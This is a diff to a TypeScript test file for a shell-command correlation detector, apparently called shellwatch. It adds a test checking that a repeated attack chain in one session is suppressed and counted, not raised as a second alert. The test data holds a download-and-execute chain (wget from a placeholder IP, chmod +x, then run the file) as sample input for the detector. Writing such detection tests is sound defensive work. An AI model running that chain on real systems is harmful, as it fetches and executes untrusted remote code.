@@ -22,7 +22,7 @@ const T0 = Date.UTC(2026, 10, 25, 12, 0, 0);
 interface CorrelationAlertSource {
   rule: { id: string };
   session?: { id: string };
-  shellwatch: { correlation: { events: { id: string }[] } };
+  shellwatch: { correlation: { events: { id: string }[] }; suppressed_count?: number };
 }
 
 describe('correlation in the service', () => {
@@ -171,5 +171,21 @@ describe('correlation in the service', () => {
     const after = await correlationAlerts();
     expect(after.map((a) => a.source.session?.id).sort()).toEqual(['s1', 's2']);
     expect((await metric('shellwatch_correlation_late_events_total')) - lateBefore).toBe(3);
+
+    // The same chain again in session s1 within the 30-minute suppression period: no
+    // second alert, the first one's shellwatch.suppressed_count set to 1 (bulk update).
+    await send(0, 's1', [
+      [30, 'wget -q http://203.0.113.9/p -O p'],
+      [40, 'chmod +x p'],
+      [50, './p'],
+    ]);
+    await committed();
+    const suppressed = await correlationAlerts();
+    expect(suppressed.filter((a) => a.source.session?.id === 's1').map((a) => a.id)).toEqual([
+      alerts[0]!.id,
+    ]);
+    expect(suppressed.find((a) => a.id === alerts[0]!.id)?.source.shellwatch.suppressed_count).toBe(
+      1,
+    );
   });
 });
